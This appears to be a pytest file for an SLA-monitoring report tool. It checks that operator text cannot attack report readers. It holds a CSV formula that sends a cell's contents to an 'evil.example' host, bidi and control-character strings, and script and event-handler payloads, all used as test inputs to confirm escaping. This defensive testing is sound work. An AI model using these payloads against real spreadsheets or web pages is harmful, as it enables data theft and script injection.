"""Operator text that attacks the reader, and windows that an older version stored.

Issue 10, item 13: a reason like ``=HYPERLINK(...)`` becomes a live formula when the CSV is
opened in a spreadsheet; NUL, U+202E (right-to-left override) and other control or bidi
characters reorder or hide what a text or Markdown report shows. Item 4: a window of
0001-01-01..9999-12-31 in the journal must not stop ``slawatch report``.
"""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta
from html.parser import HTMLParser
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest

from monitor.cli import main
from monitor.core.assess import CircuitTerms
from monitor.core.model import Announced, MaintenanceWindow
from monitor.core.report import MonthReport, month_report
from monitor.core.tracker import Incident
from monitor.report import render
from monitor.store.sqlite import open_sqlite
from tests.report import scenario

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
SNEAKY = "cable cut\x00 by \u202eremotsuc\u202c the\u2066 \u2067carrier\u2069\x1b[31m\u200f"
START = datetime(2026, 10, 3, tzinfo=UTC)


def hostile_report(reason: str, note: str) -> MonthReport:
    terms = {"c1": CircuitTerms(circuit="c1", fee_yen=300000, tz=ZoneInfo("Asia/Tokyo"))}
    incidents = [
        Incident(id=1, circuit="c1", start=START, detected=START,
                 end=START + timedelta(hours=2), excluded=reason),
        Incident(id=2, circuit="c1", start=START + timedelta(days=1),
                 detected=START + timedelta(days=1), end=START + timedelta(days=1, hours=1)),
    ]  # fmt: skip
    window = MaintenanceWindow(
        start=START + timedelta(days=1), end=START + timedelta(days=1, hours=1), note=note
    )
    return month_report(
        "2026-10",
        incidents=incidents,
        terms=terms,
        now=datetime(2026, 11, 1, tzinfo=UTC),
        announced=[Announced(circuit="c1", window=window, source="api")],
    )


@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_never_start_a_formula(lead: str) -> None:
    reason = lead + FORMULA[1:]
    rows = list(csv.DictReader(io.StringIO(render([hostile_report(reason, "")], "csv"))))
    [excluded] = [r["excluded"] for r in rows if r["excluded"]]
    assert excluded == ("'" + reason if lead in "=+-@" else " " + reason[1:]), excluded
    assert all(
        not cell.startswith(("=", "+", "@", "\t", "\r")) for r in rows for cell in r.values()
    )


def test_csv_numbers_stay_numbers() -> None:
    rows = list(csv.DictReader(io.StringIO(render([hostile_report("customer", "")], "csv"))))
    assert rows[0]["fee_yen"] == "300000" and rows[0]["incident"] == "1"


@pytest.mark.parametrize("fmt", ["text", "md", "html", "csv"])
@pytest.mark.parametrize("lang", ["ja", "en"])
def test_control_and_bidi_characters_never_reach_a_report_raw(fmt: str, lang: str) -> None:
    out = render([hostile_report(SNEAKY, SNEAKY)], fmt, lang)  # type: ignore[arg-type]
    for raw in ("\x00", "\u202e", "\u202c", "\u2066", "\u2067", "\u2069", "\x1b", "\u200f"):
        assert raw not in out, (fmt, repr(raw))
    assert "U+202E" in out and "U+0000" in out  # shown, not dropped: a report is evidence


def test_a_window_stored_by_an_older_version_still_reports(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    cfg, journal_path, _ = scenario.build(tmp_path)
    journal = open_sqlite(journal_path)
    try:
        absurd = MaintenanceWindow(
            start=datetime(1, 1, 1, tzinfo=UTC),
            end=datetime(9999, 12, 31, 23, 59, 59, tzinfo=UTC),
            note="stored by an older version",
        )
        journal.add_window("er-tokyo-1", absurd, "api", datetime(2026, 10, 20, tzinfo=UTC))
    finally:
        journal.close()
    for fmt in ("text", "json", "md", "html"):  # (csv lists no windows)
        args = ["report", "--config", str(cfg), "--now", scenario.NOW, "--month", "2026-10"]
        assert main([*args, "--format", fmt]) == 0, (fmt, capsys.readouterr().err)
        assert "stored by an older version" in capsys.readouterr().out


ELEMENTS = frozenset(
    ("html", "head", "meta", "title", "style", "body", "h1", "h2", "h3", "p", "section", "dl",
     "dt", "dd", "table", "thead", "tbody", "tr", "th", "td", "ul", "li", "footer",
     "svg", "defs", "pattern", "rect", "line", "text", "tspan", "g")
)  # fmt: skip
"""The elements report.html draws."""


class _Tags(HTMLParser):
    """Every element and attribute name of a page, as a browser's tokenizer sees them."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes.update(name for name, _ in attrs)


@pytest.mark.parametrize("lang", ["ja", "en"])
def test_markup_in_operator_text_adds_no_element_or_attribute(lang: str) -> None:
    """A reason and a note that try to close a text node, a quoted attribute (either quote)
    or the SVG's <title>: the page's elements and attributes stay the template's own."""
    reason = "'\"></title></td><script>alert(1)</script>"
    note = "' onmouseover='alert(1)' x=\"</title><img src=x onerror=alert(2)>"
    page = render([hostile_report(reason, note)], "html", lang)  # type: ignore[arg-type]
    seen = _Tags()
    seen.feed(page)
    assert seen.tags <= ELEMENTS, seen.tags - ELEMENTS
    assert not {a for a in seen.attributes if a.startswith("on")}, seen.attributes
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert "&#39; onmouseover=&#39;alert(1)&#39; x=&#34;&lt;/title&gt;&lt;img" in page
